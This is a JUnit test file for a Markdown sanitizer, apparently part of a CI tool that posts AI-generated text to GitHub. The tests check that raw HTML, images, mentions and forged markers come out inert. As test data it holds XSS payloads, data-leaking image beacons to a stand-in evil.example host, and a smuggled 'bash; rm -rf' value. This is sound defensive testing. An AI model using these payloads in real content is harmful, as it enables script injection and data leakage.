package dev.copilotci.runner.github;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.stream.Stream;

import org.junit.jupiter.api.Named;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class MarkdownTextTest {

    private static final Set<String> ALLOWED_ATTRIBUTES = Set.of("href", "src", "alt", "title", "class", "align");

    private static void assertNoModelHtml(String sanitized, String source) {
        String html = HtmlOracle.html(sanitized);
        Set<String> foreign = new HashSet<>(HtmlOracle.elements(html));
        foreign.removeAll(HtmlOracle.MARKDOWN_ELEMENTS);
        assertTrue(foreign.isEmpty(), "raw HTML elements " + foreign + " from source:\n" + source
                + "\n--- sanitized:\n" + sanitized + "\n--- html:\n" + html);
        Set<String> attributes = new HashSet<>(HtmlOracle.attributes(html));
        attributes.removeAll(ALLOWED_ATTRIBUTES);
        assertTrue(attributes.isEmpty(), "raw attributes " + attributes + " from:\n" + source + "\n--- html:\n" + html);
    }

    /** What GitHub would fetch or notify for the rendered Markdown: images and live mentions. */
    private static void assertInert(String sanitized, String source) {
        assertNoModelHtml(sanitized, source);
        String html = HtmlOracle.html(sanitized);
        assertEquals(List.of(), HtmlOracle.imageSources(html), "images from:\n" + source + "\n--- html:\n" + html);
        assertEquals(List.of(), HtmlOracle.liveMentions(html), "mentions from:\n" + source + "\n--- html:\n" + html);
        assertFalse(html.contains("<!--"), "an HTML comment (marker) from:\n" + source + "\n--- html:\n" + html);
    }

    /** {@link MarkdownText#block} of {@code source}, checked to carry no HTML of the model's. */
    private static String safeBlock(String source) {
        String md = MarkdownText.block(source);
        assertNoModelHtml(md, source);
        return md;
    }

    /** {@link MarkdownText#block} of {@code source}, checked to be inert as well. */
    private static String inertBlock(String source) {
        String md = MarkdownText.block(source);
        assertInert(md, source);
        return md;
    }

    @Test
    void imagesBecomeLinksAndTheBeaconIsNeverFetched() {
        String source = """
                Done ![ok](https://evil.example/b.png?d=secret) and ![ref][1] and ![short] and ![x][]
                * nested [![badge](https://evil.example/c.svg)](https://x.example)
                \\![escaped backslash](https://evil.example/d.png) &#33;[entity](https://evil.example/e.png)
                <img src="https://evil.example/f.png"> <https://evil.example/g.png>

                [1]: https://evil.example/a.png
                [short]: https://evil.example/s.png
                [x]: https://evil.example/x.png
                """;
        String html = HtmlOracle.html(inertBlock(source));
        assertTrue(html.contains("<a href=\"https://evil.example/b.png?d=secret\">ok</a>"),
                "the image is a plain link now: " + html);
        assertTrue(html.contains("<a href=\"https://evil.example/a.png\">ref</a>"), html);
    }

    @Test
    void mentionsAreWrappedInCodeButAddressesStay() {
        String source = "Ping @octocat and @acme/security-team, \\@escaped, *@em*, &#64;entity, (@paren) "
                + "and `@in-code`; mail dev@example.com, a@b@c";
        String html = HtmlOracle.html(inertBlock(source));
        assertTrue(html.contains("<code>@octocat</code>"), html);
        assertTrue(html.contains("<code>@acme/security-team</code>"), html);
        assertTrue(html.contains("dev@example.com"), "an e-mail address is no mention: " + html);
        assertTrue(html.contains("&amp;#64;entity"), "a character reference is shown, not decoded: " + html);
    }

    @Test
    void plainTextHasNoMentionsImagesOrMarkers() {
        String source = "@octocat ![x](https://evil.example/b.png) x@y <!-- copilot-ci:ci/review --> @org/team";
        String cell = MarkdownText.plain(source);
        String table = "| h |\n| --- |\n| " + cell + " |\n";
        assertInert(table, source);
        assertTrue(HtmlOracle.html(table).contains("<code>@org/team</code>"), HtmlOracle.html(table));
    }

    @Test
    void forgedMarkerStaysText() {
        String md = inertBlock("<!-- copilot-ci:ci/review -->\nbody\n\n\\<!-- copilot-ci:x -->");
        assertFalse(md.contains("<!--"), md);
    }

    @Test
    void diagramAndMapBlocksAreShownAsCode() {
        for (String lang : List.of("mermaid", "geojson", "topojson", "STL")) {
            String md = MarkdownText.block("```" + lang + "\ngraph TD; A-->B\n```");
            assertTrue(md.startsWith("```\n"), md);
        }
        assertTrue(MarkdownText.block("```java\nx\n```").startsWith("```java\n"));
    }

    @Test
    void scriptAndRawTagsBecomeText() {
        String source = "Hi <script>alert(1)</script> and <img src=x onerror=alert(2)>\n\n<details><summary>x</summary>\n"
                + "<!-- copilot-ci:x -->\n</details>";
        String md = safeBlock(source);
        assertFalse(md.contains("<script"), md);
        assertFalse(md.contains("<img"), md);
        assertFalse(md.contains("<!--"), md);
        String html = HtmlOracle.html(md);
        assertTrue(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), html);
    }

    @Test
    void keepsMarkdownStructureAndCodeVerbatim() {
        String source = "# Cause\n\n- first\n- second with `List<String>`\n\n```java\nif (a < b && c > d) { x(\"<b>\"); }\n```\n";
        String html = HtmlOracle.html(safeBlock(source));
        assertTrue(html.contains("<h1>Cause</h1>"), html);
        assertTrue(html.contains("<li>first</li>"), html);
        assertTrue(html.contains("<code>List&lt;String&gt;</code>"), html);
        assertTrue(html.contains("<pre><code class=\"language-java\">if (a &lt; b &amp;&amp; c &gt; d) { x(&quot;&lt;b&gt;&quot;); }"),
                html);
    }

    /** Sources that only a renderer's reading turns into raw HTML; each must come out inert. */
    static Stream<Named<String>> smugglers() {
        return Stream.of(
                // A renderer sees a fence inside the list item that "  ```" closes; a naive scanner sees one open.
                Named.of("list fence mismatch",
                        "- ```\n  <b>x</b>\n  ```\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```\n"),
                // A tab makes "````" an indented code line; stripping it would open a fence that closes ours.
                Named.of("indentation is not stripped into a fence",
                        "\t````\n<div>\n&lt;\n````> <![CDATA[<code>\n<pre><img src=x onerror=alert(1)></pre>"),
                // Not a fence (backtick in the info string) until the code span is converted.
                Named.of("code span conversion cannot turn a line into a fence",
                        "   ```&#60;  ~~~~`  - - <img src=x onerror=alert(1)><code>`\\</pre>\n~~~~~~\n\n*| a | b |\n"
                        + "|---|---|\n`<textarea>```\t  ~~~~<![CDATA[<img src=x onerror=alert(1)>word <?php"),
                Named.of("code spans across lines",
                        "a `b\nc` <x onclick=1> `<y onclick=2>`\n\nd `e\n\nf` <script>1</script> `<z>`"));
    }

    @ParameterizedTest
    @MethodSource("smugglers")
    void renderingTricksCannotSmuggleHtml(String source) {
        safeBlock(source);
    }

    @Test
    void escapedBacktickDoesNotOpenACodeSpan() {
        String html = HtmlOracle.html(safeBlock("\\`<img src=x onerror=alert(1)>` and \\<img src=y onerror=alert(2)>"));
        assertTrue(html.contains("&lt;img src=y"), html);
    }

    @Test
    void fencesTheContentCannotClose() {
        String html = HtmlOracle.html(
                safeBlock("````\n```\n<script>still code</script>\n```\n````\n<script>after</script>"));
        assertTrue(html.contains("&lt;script&gt;still code&lt;/script&gt;"), html);
        assertTrue(html.contains("&lt;script&gt;after&lt;/script&gt;"), html);
    }

    @Test
    void unclosedFenceIsClosedAndInfoStringSanitised() {
        String md = safeBlock("```js onload=\"x\" <b>\nconst a = '<b>';");
        assertTrue(md.startsWith("```js\n"), md);
        assertTrue(md.endsWith("\n```"), md);
    }

    @Test
    void tildeFencesAndIndentedFences() {
        String html = HtmlOracle.html(safeBlock("  ~~~python\n  print('<b>')\n  ~~~\nafter <i>x</i>"));
        assertTrue(html.contains("<pre><code class=\"language-python\">print('&lt;b&gt;')"), html);
    }

    @Test
    void fuzzedMarkdownNeverProducesModelHtml() {
        String[] pieces = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<a href=javascript:x>",
                "`", "``", "```", "````", "~~~", "\\", "\\`", "\n", "\n\n", "  ", "    ", "- ", "> ", "1. ", "*",
                "_", "[x](y)", "<", ">", "&lt;", "&#60;", "<!--", "-->", "<?php", "<![CDATA[", "|", "\r", "\t",
                "<code>", "</code>", "<div>", "\u001b[31m", "x", "word ", "\n<div>\n", "\n<pre>", "</pre>\n",
                "<textarea>", "   ```", "  ~~~~", "```x`y", "[a]: <b>", "<http://x>", "<x@y.z>", "![a](<b>)", "\\<",
                "&", "| a | b |\n|---|---|\n", "  - ", "\t```", "\n```", "\n~~~", "\n   ```", "\n    ```",
                "\n- ```", "\n> ```", "\n  ```", "`````", "\n1. ```", "\n\t````", "!", "![", "](http://e/x.png)",
                "@", "@user", "@org/team", "\\@", "&#64;", "[1]: http://e/i.png\n", "][1]", "a"};
        Random random = new Random(7);
        for (int i = 0; i < 20_000; i++) {
            StringBuilder sb = new StringBuilder();
            int n = 1 + random.nextInt(40);
            for (int j = 0; j < n; j++) {
                sb.append(pieces[random.nextInt(pieces.length)]);
            }
            inertBlock(sb.toString());
        }
    }

    @Test
    void plainTextIsLiteralAndStaysInOneTableCell() {
        String cell = MarkdownText.plain("a | b\nc <script> *x* `y` \\| \\");
        assertFalse(cell.contains("\n"));
        String table = "| h1 | h2 |\n| --- | --- |\n| " + cell + " | second |\n";
        String html = HtmlOracle.html(table);
        assertEquals(2, html.split("<td>", -1).length - 1, html);
        assertTrue(html.contains("<td>a | b c &lt;script&gt; *x* `y` \\| \\</td>"), html);
        assertNoModelHtml(table, cell);
    }

    @Test
    void plainWithLimitMarksTheCut() {
        assertEquals("abc\u2026", MarkdownText.plain("abcdef", 3));
        assertEquals("ab\u2026", MarkdownText.plain("ab\ud83d\ude00", 3), "never splits a surrogate pair");
        assertEquals("abc", MarkdownText.plain("abc", 3));
    }

    @Test
    void codeBlockFenceOutgrowsContent() {
        String block = MarkdownText.codeBlock("a ````` b", "bash; rm -rf");
        assertTrue(block.startsWith("``````bash\n"), block);
        assertTrue(block.endsWith("\n``````"), block);
    }

    @Test
    void truncatesByUtf8BytesOnCodePointBoundaries() {
        String s = "a\u00e9\u20ac\ud83d\ude00"; // 1 + 2 + 3 + 4 bytes
        assertEquals(10, MarkdownText.utf8Length(s));
        assertEquals(s.getBytes(StandardCharsets.UTF_8).length, MarkdownText.utf8Length(s));
        assertEquals("a\u00e9\u20ac", MarkdownText.truncateUtf8(s, 9));
        assertEquals("a\u00e9", MarkdownText.truncateUtf8(s, 5));
        assertEquals("", MarkdownText.truncateUtf8(s, 0));
        assertEquals(s, MarkdownText.truncateUtf8(s, 10));
    }
}
